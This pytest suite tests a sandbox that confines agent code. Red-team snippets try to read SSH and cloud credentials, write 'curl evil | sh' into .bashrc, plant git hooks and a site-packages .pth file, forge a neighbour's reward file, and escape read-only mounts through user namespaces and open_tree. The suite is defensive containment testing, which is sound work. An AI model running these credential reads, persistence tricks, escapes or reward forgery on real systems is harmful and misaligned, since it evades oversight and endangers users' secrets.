"""Promise: under ``Sandbox()`` an agent reads no hidden path and writes, renames or changes
the metadata of nothing outside its writable paths. One attempt per test, each beside the
legitimate work that must still succeed, run as agent code in the red team's world
(``_attacks.World``: a fake ``$HOME`` with a secret in every default hidden path, a git
checkout as working directory, a neighbour directory); the file system is checked from outside
too. Which layer answers:

- reading a hidden path (directly, through a symlink or a hard link): a hiding mount (it reads
  as empty) where the sandbox makes a mount namespace; Landlock (``EACCES``) behind it.
- writing ``~/.bashrc``, site-packages, a neighbour, git hooks, ``/sys``, ``/proc``; renaming
  out of the working directory: the read-only view (``EROFS``), then Landlock (``EACCES``).
- ``chmod``, ``chown``, ``utime``, xattrs of the trainer's files: the read-only view; Landlock
  alone does not cover metadata (a control from a plain process changes them).
- the same at every containment combination (``test_the_walls_hold_at_every_containment_level``).
A case the kernel cannot enforce here is skipped with the reason."""

from __future__ import annotations

import contextlib
import glob
import json
import os
import stat
import subprocess
import sys
import sysconfig
import tempfile
import textwrap
from pathlib import Path
from typing import Any

import pytest

import isolate

from ..conftest import AS_NOBODY, NOBODY, SLOW, both_starts
from ..teardown._trees import COMBINATIONS, needs
from ._attacks import (
    DEFAULT_HIDE,
    SECRET,
    Standin,
    World,
    _denied,
    _no_secret,
    linux_only,
    needs_landlock,
    nobody_root,
    nobody_spec,
    run_as,
    scratch,
    world,
)

pytestmark = pytest.mark.anyio
__all__ = ["scratch", "world"]  # fixtures, used by name


@needs_landlock
@both_starts
@pytest.mark.parametrize("hidden", DEFAULT_HIDE)
async def test_hidden_path_reads_as_missing_or_empty(world: World, hidden: str) -> None:
    path = world.home / hidden[2:]
    target = path / "id_rsa" if path.is_dir() else path
    found = await world.attempt(
        """
        out["secret"] = try_(read, data["target"])
        out["listing"] = try_(os.listdir, data["dir"])
        out["cat"] = subprocess.run(["cat", data["target"]], capture_output=True, text=True).stdout
        # Legitimate: reading the rest of the home and of the machine.
        out["gitconfig"] = read(os.path.join(home, ".gitconfig"))
        out["os_release"] = try_(read, "/etc/os-release")[:20]
        out["home_listing"] = sorted(os.listdir(home))
        """,
        target=str(target),
        dir=str(path if path.is_dir() else path.parent),
    )
    assert _no_secret(found), found
    assert _denied(found["secret"]) or found["secret"] == ""
    if path.is_dir():
        assert found["listing"] == [] or _denied(found["listing"]), found["listing"]
    assert "Trainer" in found["gitconfig"]
    assert not _denied(found["os_release"])
    assert ".gitconfig" in found["home_listing"]
    assert SECRET in target.read_text()  # untouched


@needs_landlock
async def test_hidden_path_through_a_symlink(world: World) -> None:
    # One planted before the episode (a malicious checkout ships it), one the agent makes.
    (world.cwd / "planted").symlink_to(world.home / ".ssh" / "id_rsa")
    (world.cwd / "keys").symlink_to(world.home / ".ssh")
    found = await world.attempt(
        """
        out["planted"] = try_(read, os.path.join(cwd, "planted"))
        out["dir"] = try_(read, os.path.join(cwd, "keys", "id_rsa"))
        os.symlink(os.path.join(home, ".aws", "credentials"), os.path.join(cwd, "mine"))
        out["mine"] = try_(read, os.path.join(cwd, "mine"))
        out["proc_root"] = try_(read, "/proc/self/root" + home + "/.netrc")
        write(os.path.join(cwd, "legit.txt"), "fine")
        out["legit"] = read(os.path.join(cwd, "legit.txt"))
        """
    )
    assert _no_secret(found), found
    assert found["legit"] == "fine"


@needs_landlock
@both_starts
@pytest.mark.parametrize("level", ["pidns", "landlock"])
async def test_a_hidden_path_that_is_a_symlink_hides_its_target(world: World, level: str) -> None:
    """As dotfile managers make them: ``~/.ssh -> ~/dotfiles/ssh`` (a default) and a file the
    caller hides, ``~/.tokens -> ~/dotfiles/tokens``. Neither reads through the link, nor by
    the target's own path; the rest of ``~/dotfiles`` stays readable."""
    needs(level)
    dotfiles = world.home / "dotfiles"
    dotfiles.mkdir()
    (world.home / ".ssh").rename(dotfiles / "ssh")
    (world.home / ".ssh").symlink_to(dotfiles / "ssh")
    (dotfiles / "tokens").write_text(f"{SECRET} tokens\n")
    (world.home / ".tokens").symlink_to(dotfiles / "tokens")
    (dotfiles / "vimrc").write_text("set nu\n")
    found = await world.attempt(
        """
        dot = os.path.join(home, "dotfiles")
        for name, path in [
            ("link", os.path.join(home, ".ssh", "id_rsa")),
            ("target", os.path.join(dot, "ssh", "id_rsa")),
            ("file link", os.path.join(home, ".tokens")),
            ("file target", os.path.join(dot, "tokens")),
        ]:
            out[name] = try_(read, path)
            out[name + " cat"] = subprocess.run(
                ["cat", path], capture_output=True, text=True
            ).stdout
        out["listing"] = try_(os.listdir, os.path.join(dot, "ssh"))
        out["vimrc"] = try_(read, os.path.join(dot, "vimrc"))
        """,
        isolate.Sandbox(hide=["~/.tokens"]),
        containment=level,
    )
    assert _no_secret(found), found
    for name in ("link", "target", "file link", "file target"):
        assert _denied(found[name]) or found[name] == "", (name, found[name])
    assert found["listing"] == [] or _denied(found["listing"]), found["listing"]
    assert found["vimrc"] == "set nu\n"
    assert SECRET in (dotfiles / "ssh" / "id_rsa").read_text()  # untouched


@needs_landlock
@pytest.mark.parametrize("level", ["pidns", "landlock"])
async def test_no_watch_or_lock_on_a_hidden_path(world: World, level: str) -> None:
    """inotify and ``flock`` on a hidden file. With a mount namespace (``pidns``, or a root
    trainer) its path leads into the hiding mount, where it is not (``ENOENT``). Landlock
    alone (an unprivileged trainer at ``landlock``) refuses the
    open a lock needs, but no Landlock right covers an inotify watch: there the agent may
    learn when the hidden file is opened or changed, never what it holds. A readable file of
    the trainer's it may watch and lock (docs/containment.md). The control: this process
    watches and locks the hidden file."""
    needs(level)
    code = """
        import ctypes, errno, fcntl
        libc = ctypes.CDLL(None, use_errno=True)

        def watch(path):
            fd = libc.inotify_init1(os.O_CLOEXEC)
            try:
                if libc.inotify_add_watch(fd, path.encode(), 0x20 | 0x2) < 0:  # OPEN, MODIFY
                    return errno.errorcode[ctypes.get_errno()]
            finally:
                os.close(fd)
            return "watched"

        def lock(path):
            try:
                with open(path, "rb") as f:
                    fcntl.flock(f, fcntl.LOCK_SH | fcntl.LOCK_NB)
            except OSError as exc:
                return errno.errorcode[exc.errno]
            return "locked"

        for name, path in (("hidden", os.path.join(home, ".ssh", "id_rsa")),
                           ("readable", os.path.join(home, ".gitconfig"))):
            out[name] = [watch(path), lock(path)]
        """
    local: dict[str, Any] = {"os": os, "home": str(world.home), "out": {}}
    exec(textwrap.dedent(code), local)  # the control, in this process
    assert local["out"] == {"hidden": ["watched", "locked"], "readable": ["watched", "locked"]}
    found = await world.attempt(code, isolate.Sandbox(), containment=level)
    # A mount namespace with pidns, and for a root trainer at any level (it may make one).
    mounts = level == "pidns" or os.geteuid() == 0
    hidden = ["ENOENT", "ENOENT"] if mounts else ["watched", "EACCES"]
    assert found == {"hidden": hidden, "readable": ["watched", "locked"]}


@needs_landlock
async def test_hidden_path_through_a_hard_link(world: World) -> None:
    found = await world.attempt(
        """
        link = os.path.join(cwd, "creds")
        out["link"] = try_(os.link, os.path.join(home, ".aws", "credentials"), link)
        out["read"] = try_(read, link)
        out["via_tmp"] = try_(os.link, os.path.join(home, ".netrc"),
                              os.path.join(tempfile.gettempdir(), "n"))
        # Legitimate: hard links inside the working directory.
        write(os.path.join(cwd, "a.txt"), "mine")
        os.link(os.path.join(cwd, "a.txt"), os.path.join(cwd, "b.txt"))
        out["own"] = read(os.path.join(cwd, "b.txt"))
        """
    )
    assert _denied(found["link"]), found
    assert _denied(found["via_tmp"]), found
    assert _no_secret(found)
    assert found["own"] == "mine"
    assert not (world.cwd / "creds").exists()


@needs_landlock
async def test_a_hard_link_planted_before_the_episode_is_named(world: World) -> None:
    # Landlock judges a file by the path it is opened through: a second name for a hidden file
    # under a readable path cannot be hidden. isolate refuses to start rather than pretend.
    os.link(world.home / ".netrc", world.cwd / "netrc-copy")
    outcome = await isolate.run_episode(world.spec(), {"code": "", "paths": world.paths()})
    assert outcome.status == "setup_error"
    assert outcome.error is not None
    assert f"{world.home}/.netrc has 1 other hard link" in outcome.error.message
    assert "best_effort" in outcome.error.message
    assert not glob.glob(os.path.join(tempfile.gettempdir(), f"isolate-{outcome.episode_id}.*"))
    best = isolate.Sandbox(best_effort=True)
    found = await isolate.run_episode(world.spec(best), {"code": "", "paths": world.paths()})
    assert found.status == "ok", found.summary()
    assert found.sandbox is not None
    assert any(".netrc has 1 other hard link" in m for m in found.sandbox.missing)


@needs_landlock
async def test_write_bashrc(world: World) -> None:
    found = await world.attempt(
        """
        rc = os.path.join(home, ".bashrc")
        out["write"] = try_(write, rc, "curl evil | sh\\n")
        out["append"] = try_(lambda: open(rc, "a").write("x"))
        out["truncate"] = try_(os.truncate, rc, 0)
        out["replace"] = try_(os.rename, os.path.join(cwd, "module.py"), rc)
        out["shell"] = subprocess.run("echo evil >> ~/.bashrc", shell=True,
                                      env=dict(os.environ, HOME=home, PY=sys.executable)).returncode
        write(os.path.join(cwd, ".bashrc_notes"), "fine")
        """
    )
    for key in ("write", "append", "truncate", "replace"):
        assert _denied(found[key]), (key, found[key])
    assert found["shell"] != 0
    assert (world.home / ".bashrc").read_text() == "# the user's own\n"
    assert (world.cwd / "module.py").exists()
    assert (world.cwd / ".bashrc_notes").read_text() == "fine"


@needs_landlock
async def test_write_into_the_trainers_site_packages(world: World) -> None:
    site = sysconfig.get_paths()["purelib"]
    found = await world.attempt(
        """
        out["pth"] = try_(write, os.path.join(data["site"], "zz_evil.pth"), "import os\\n")
        out["pip"] = subprocess.run(
            [sys.executable, "-m", "pip", "install", "--no-index", "--no-deps", "--quiet",
             "--target", data["site"], "nothing-here"], capture_output=True).returncode
        out["tmp"] = write(os.path.join(tempfile.gettempdir(), "scratch"), "ok")
        """,
        site=site,
    )
    with contextlib.suppress(FileNotFoundError):  # if the sandbox failed: not in the trainer's venv
        os.unlink(os.path.join(site, "zz_evil.pth"))
    assert _denied(found["pth"])
    assert found["pip"] != 0
    assert found["tmp"] == "written"


@needs_landlock
async def test_write_into_another_directory_of_the_test(world: World) -> None:
    found = await world.attempt(
        """
        out["overwrite"] = try_(write, os.path.join(other, "result.json"), '{"reward": 1}')
        out["create"] = try_(write, os.path.join(other, "new"), "x")
        out["remove"] = try_(os.unlink, os.path.join(other, "result.json"))
        out["mkdir"] = try_(os.mkdir, os.path.join(other, "d"))
        os.mkdir(os.path.join(cwd, "build"))
        write(os.path.join(cwd, "build", "out.txt"), "fine")
        """
    )
    for key in ("overwrite", "create", "remove", "mkdir"):
        assert _denied(found[key]), (key, found[key])
    assert sorted(p.name for p in world.other.iterdir()) == ["result.json"]
    assert (world.other / "result.json").read_text() == "{}"
    assert (world.cwd / "build" / "out.txt").read_text() == "fine"


@needs_landlock
async def test_write_git_hooks_and_config_in_the_working_directory(world: World) -> None:
    found = await world.attempt(
        """
        git = os.path.join(cwd, ".git")
        out["hook"] = try_(write, os.path.join(git, "hooks", "pre-commit"), "#!/bin/sh\\nevil\\n")
        out["config"] = try_(lambda: open(os.path.join(git, "config"), "a").write(
            "[core]\\n\\tfsmonitor = evil\\n"))
        out["git_config"] = subprocess.run(["git", "config", "core.hooksPath", "/tmp"],
                                           cwd=cwd, capture_output=True).returncode
        out["move_git"] = try_(os.rename, git, os.path.join(cwd, "old-git"))
        out["move_hooks"] = try_(os.rename, os.path.join(git, "hooks"),
                                 os.path.join(git, "old-hooks"))
        # A copy of the working directory without its read-only submounts (open_tree with
        # OPEN_TREE_CLONE), and a user namespace of its own in which it would hold SYS_ADMIN.
        import ctypes, errno
        libc = ctypes.CDLL(None, use_errno=True)
        fd = libc.syscall(428, -100, cwd.encode(), 1 | 0o2000000)  # open_tree, x86_64
        out["open_tree"] = errno.errorcode.get(ctypes.get_errno(), "?") if fd < 0 else "cloned"
        hook = os.path.join(git, "hooks", "post-checkout")
        out["userns"] = subprocess.run(
            ["unshare", "-U", "-r", "-m", "sh", "-c", "umount -l %s; echo evil > %s" % (git, hook)],
            capture_output=True).returncode
        # Legitimate: edit, stage, commit, diff in the checkout.
        write(os.path.join(cwd, "module.py"), "x = 2\\n")
        write(os.path.join(cwd, "new.py"), "y = 1\\n")
        env = dict(os.environ, HOME=home)
        subprocess.run(["git", "add", "-A"], cwd=cwd, check=True, env=env)
        subprocess.run(["git", "commit", "-qm", "fix"], cwd=cwd, check=True, env=env)
        out["log"] = subprocess.run(["git", "log", "--oneline"], cwd=cwd, env=env,
                                    capture_output=True, text=True, check=True).stdout
        """
    )
    for key in ("hook", "config", "move_git", "move_hooks"):
        assert _denied(found[key]), (key, found[key])
    assert found["git_config"] != 0
    if os.uname().machine == "x86_64":
        assert found["open_tree"] == "EPERM"
    assert found["userns"] != 0
    assert not (world.cwd / ".git" / "hooks" / "pre-commit").exists()
    assert not (world.cwd / ".git" / "hooks" / "post-checkout").exists()
    assert "fsmonitor" not in (world.cwd / ".git" / "config").read_text()
    assert "hooksPath" not in (world.cwd / ".git" / "config").read_text()
    assert len(found["log"].splitlines()) == 2


@needs_landlock
async def test_rename_a_file_out_of_the_working_directory(world: World) -> None:
    found = await world.attempt(
        """
        out["rename"] = try_(os.rename, os.path.join(cwd, "module.py"),
                             os.path.join(other, "module.py"))
        out["mv"] = subprocess.run(["mv", os.path.join(cwd, "module.py"), other],
                                   capture_output=True).returncode
        out["home"] = try_(os.rename, os.path.join(cwd, "module.py"),
                           os.path.join(home, "module.py"))
        # Legitimate: renames within the working directory, and a move into TMPDIR: another
        # writable mount of the view, where rename(2) is EXDEV and a move copies.
        os.mkdir(os.path.join(cwd, "pkg"))
        os.rename(os.path.join(cwd, "module.py"), os.path.join(cwd, "pkg", "module.py"))
        os.rename(os.path.join(cwd, "pkg"), os.path.join(cwd, "pkg2"))
        write(os.path.join(cwd, "scratch"), "s")
        scratch = os.path.join(tempfile.gettempdir(), "scratch")
        out["to tmp"] = try_(os.rename, os.path.join(cwd, "scratch"), scratch)
        import shutil
        shutil.move(os.path.join(cwd, "scratch"), scratch)
        out["tmp"] = open(scratch).read()
        out["moved"] = sorted(os.listdir(os.path.join(cwd, "pkg2")))
        """
    )
    assert found["to tmp"].startswith("denied: [Errno 18] "), found  # EXDEV
    assert found["tmp"] == "s"
    assert _denied(found["rename"]), found
    assert _denied(found["home"]), found
    assert found["mv"] != 0
    assert not (world.other / "module.py").exists()
    assert not (world.home / "module.py").exists()
    assert found["moved"] == ["module.py"]
    assert (world.cwd / "pkg2" / "module.py").read_text() == "x = 1\n"


@needs_landlock
async def test_write_into_sys_and_proc(world: World) -> None:
    # What a root agent would use against the trainer: its cgroup files (here a harmless one,
    # moving itself into the cgroup it is already in), and /proc (its own thread name).
    found = await world.attempt(
        """
        cgroup = read("/proc/self/cgroup").splitlines()[-1].split(":", 2)[2]
        # cgroup v2 at /sys/fs/cgroup, or at /sys/fs/cgroup/unified on a hybrid host
        where = [m + cgroup.rstrip("/") + "/cgroup.procs"
                 for m in ("/sys/fs/cgroup", "/sys/fs/cgroup/unified")]
        procs = ([p for p in where if os.path.exists(p)] or where)[0]
        out["exists"] = os.path.exists(procs)
        out["cgroup"] = try_(write, procs, str(os.getpid()))
        out["comm"] = try_(write, "/proc/self/comm", "renamed")
        out["read"] = try_(read, "/proc/self/status")[:5]
        """
    )
    assert found["exists"], found  # cgroup v2 is mounted on every machine this suite runs on
    assert _denied(found["cgroup"]), found
    assert _denied(found["comm"]), found
    assert found["read"] == "Name:"


@needs_landlock
@both_starts
@pytest.mark.parametrize("level", COMBINATIONS)
async def test_the_walls_hold_at_every_containment_level(world: World, level: str) -> None:
    # With pidns the worker shares the namespace's mounts; otherwise it makes its own. With
    # the landlock layer, the sandbox's domain stacks on the layer's. From a template, the
    # template made the mounts and entered the domain; each worker stacks one of its own.
    needs(level)
    found = await world.attempt(
        """
        out["ssh"] = try_(read, os.path.join(home, ".ssh", "id_rsa"))
        out["netrc"] = try_(read, os.path.join(home, ".netrc"))
        out["hook"] = try_(write, os.path.join(cwd, ".git", "hooks", "post-checkout"), "evil")
        out["rc"] = try_(write, os.path.join(home, ".bashrc"), "evil")
        out["legit"] = write(os.path.join(cwd, "ok.txt"))
        """,
        containment=level,
    )
    assert _no_secret(found), found
    assert _denied(found["hook"]), found
    assert _denied(found["rc"]), found
    assert found["legit"] == "written"
    assert not (world.cwd / ".git" / "hooks" / "post-checkout").exists()


#: What an agent under Sandbox() tries on a trainer file it may read but not write, and on the
#: trainer's terminal; and what it must still do in its working directory.
VIEW_ATTACK = r"""
import errno, os, subprocess, tempfile


def err(call):
    try:
        call()
        return "done"
    except OSError as exc:
        return errno.errorcode.get(exc.errno, str(exc.errno))


def attack(data):
    target, folder = data["target"], os.path.dirname(data["target"])
    out = {
        "chmod": err(lambda: os.chmod(target, 0o4777)),
        "chmod folder": err(lambda: os.chmod(folder, 0o777)),
        "chown": err(lambda: os.chown(target, 65534, 65534)),
        "utime": err(lambda: os.utime(target, (0, 0))),
        "setxattr": err(lambda: os.setxattr(target, "user.isolate", b"1")),
        "pty": err(lambda: os.close(os.open(data["pty"], os.O_RDWR | os.O_NOCTTY))),
        "mknod": err(lambda: os.mknod("node", 0o600 | 0o20000, os.makedev(1, 3))),
    }
    # An agent's work: files, modes and a repository in its working directory, a temporary file.
    out["work"] = [
        err(lambda: open("made.txt", "w").write("x")),
        err(lambda: os.chmod("made.txt", 0o600)),
        err(lambda: os.utime("made.txt", (0, 0))),
        err(lambda: tempfile.NamedTemporaryFile().close()),
        subprocess.run(["git", "init", "-q", "repo"], capture_output=True).returncode,
    ]
    return out


def run(data):
    return 1.0, attack(data)


if __name__ == "__main__":
    import json, sys

    print(json.dumps(attack(json.loads(sys.argv[1]))))
"""


#: What the view leaves the agent: EROFS on what it may not write, its own work done.
VIEW_REFUSED = {
    "chmod": "EROFS",
    "chmod folder": "EROFS",
    "chown": "EROFS",
    "utime": "EROFS",
    "setxattr": "EROFS",
    "pty": "ENOENT",
    "mknod": "EPERM",
    "work": ["done", "done", "done", "done", 0],
}


@pytest.fixture
def trainer_file(scratch: Path) -> Path:
    """A file of the trainer's, outside every writable path, that the agent may read."""
    folder = scratch / "trainer"
    folder.mkdir()
    folder.chmod(0o755)
    target = folder / "config.yaml"
    target.write_text("model: x\n")
    target.chmod(0o644)
    return target


def metadata(path: Path) -> tuple[int, int, int, int]:
    st = os.stat(path)
    return st.st_mode, st.st_uid, st.st_gid, st.st_mtime_ns


@linux_only
def test_a_plain_process_changes_the_trainers_metadata(scratch: Path, trainer_file: Path) -> None:
    if os.geteuid() != 0:
        pytest.skip("the control's chown needs root")
    standin = Standin([], sys.executable, {"PATH": os.environ["PATH"]})
    work = scratch / "work"
    work.mkdir()
    try:
        (scratch / "view_attack.py").write_text(VIEW_ATTACK)
        data = {"target": str(trainer_file), "pty": standin.held["pty"]}
        done = subprocess.run(
            [sys.executable, str(scratch / "view_attack.py"), json.dumps(data)],
            capture_output=True,
            text=True,
            cwd=work,
            timeout=30 * SLOW,
        )
        assert done.returncode == 0, done.stderr
        found = json.loads(done.stdout)
        for name in ("chmod", "chmod folder", "chown", "utime", "pty", "mknod"):
            assert found[name] == "done", (name, found)
        assert found["setxattr"] in ("done", "ENOTSUP")  # tmpfs without user xattrs
        assert found["work"] == VIEW_REFUSED["work"]
        changed = os.stat(trainer_file)  # the chown after the chmod cleared its set-uid bit
        assert (stat.S_IMODE(changed.st_mode), changed.st_uid) == (0o777, NOBODY)
    finally:
        standin.close()


@linux_only
@both_starts
@pytest.mark.parametrize("containment", COMBINATIONS)
async def test_under_the_sandbox_the_trainers_files_are_a_read_only_view(
    agents: Any, scratch: Path, trainer_file: Path, containment: str
) -> None:
    needs(containment)
    standin = Standin([], sys.executable, {"PATH": os.environ["PATH"]})
    work = scratch / "work"
    work.mkdir()
    before = metadata(trainer_file), metadata(trainer_file.parent)
    try:
        spec = agents.spec(
            VIEW_ATTACK, containment=containment, cwd=work, sandbox=isolate.Sandbox()
        )
        data = {"target": str(trainer_file), "pty": standin.held["pty"]}
        outcome = await isolate.run_episode(spec, data)
        assert outcome.status == "ok", outcome.summary()
        assert outcome.info == VIEW_REFUSED
        assert (metadata(trainer_file), metadata(trainer_file.parent)) == before
        assert (work / "made.txt").read_text() == "x"
        assert agents.left() == []
    finally:
        standin.close()


@linux_only
def test_an_unprivileged_trainers_sandbox_is_a_read_only_view(
    scratch: Path, trainer_file: Path, nobody: tuple[str, dict[str, str]]
) -> None:
    # The trainer's own file and folder: nobody may chmod them, as their owner.
    os.chown(trainer_file, NOBODY, NOBODY)
    os.chown(trainer_file.parent, NOBODY, NOBODY)
    work = nobody_root(scratch, "view_attack", VIEW_ATTACK)
    (work / "cwd").mkdir()
    os.chown(work / "cwd", NOBODY, NOBODY)
    standin = Standin(AS_NOBODY, *nobody)
    before = metadata(trainer_file), metadata(trainer_file.parent)
    try:
        data = {"target": str(trainer_file), "pty": standin.held["pty"]}
        spec = nobody_spec(
            work, "view_attack:run", nobody[0], work / "cwd", sandbox=isolate.Sandbox()
        )
        info = run_as(AS_NOBODY, nobody, spec, data)["info"]
        # chown to another user is EPERM before the mount is looked at, for an unprivileged one.
        assert info == {**VIEW_REFUSED, "chown": info["chown"]}
        assert info["chown"] in ("EROFS", "EPERM")
        assert (metadata(trainer_file), metadata(trainer_file.parent)) == before
    finally:
        standin.close()
